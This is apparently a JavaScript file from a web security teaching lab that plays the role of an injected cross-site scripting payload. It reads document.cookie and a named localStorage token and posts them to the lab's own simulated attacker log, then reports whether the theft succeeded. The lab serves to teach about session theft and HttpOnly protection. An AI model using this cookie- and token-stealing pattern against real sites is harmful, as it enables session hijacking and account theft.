// LAB — the "injected script" of the cookie-theft and client-side labs. It
// does what a cross-site scripting payload does: read what any script of
// this origin may read, document.cookie (and, where the section names a
// storage key in data-storage, that localStorage entry), and send it to the
// attacker (here, the lab's own log at the section's data-steal address).
// HttpOnly cookies never appear in document.cookie. It runs at once, or,
// where the section has a #steal-run button, when the learner presses it.
(function () {
  "use strict";
  var sec = document.querySelector("[data-steal]");
  var saw = document.getElementById("steal-saw");
  var log = document.getElementById("attacker-log");
  var out = document.getElementById("steal-outcome");
  if (!sec || !saw || !log || !out) { return; }
  var key = sec.getAttribute("data-storage");
  var cut = function (s) { return s.length > 24 ? s.slice(0, 24) + "… (" + s.length + " chars)" : s; };
  var steal = function () {
    var cookies = document.cookie;
    var shown = cookies === "" ? "(empty: no cookie this script may read)" : cookies.replace(/=([^;]{8})[^;]*/g, "=$1…");
    var body = new URLSearchParams();
    body.set("cookies", cookies);
    if (key) {
      var token = "";
      try { token = window.localStorage.getItem(key) || ""; } catch (e) { token = ""; }
      body.set("token", token);
      shown = "localStorage." + key + ": " + (token === "" ? "(nothing)" : cut(token)) + "\ndocument.cookie: " + shown;
    }
    saw.textContent = shown;
    // Not part of the attack: the learner's own shop token, so that the
    // outcome may be recorded in their lessons (a shop POST needs it).
    body.set("csrf_token", sec.getAttribute("data-csrf") || "");
    fetch(sec.getAttribute("data-steal"), {
      method: "POST",
      headers: { "Content-Type": "application/x-www-form-urlencoded", "Accept": "application/json" },
      body: body.toString(),
      credentials: "same-origin"
    }).then(function (r) {
      return r.json().then(function (res) {
        if (!r.ok) { throw new Error(res.error || "refused"); }
        return res;
      });
    }).then(function (res) {
      var li = document.createElement("li");
      li.textContent = new Date().toLocaleTimeString() + " — " + (res.captured ? "received " + res.captured : "received nothing") + " (" + res.mode + " mode)";
      log.appendChild(li);
      out.textContent = "The attack " + res.outcome + ". " + res.explain;
      out.setAttribute("data-outcome", res.outcome);
      out.className = "lab-outcome outcome-" + res.outcome;
    }).catch(function (err) {
      out.textContent = "Could not reach the attacker's log: " + err.message;
    });
  };
  var run = document.getElementById("steal-run");
  if (run) { run.addEventListener("click", steal); } else { steal(); }
})();
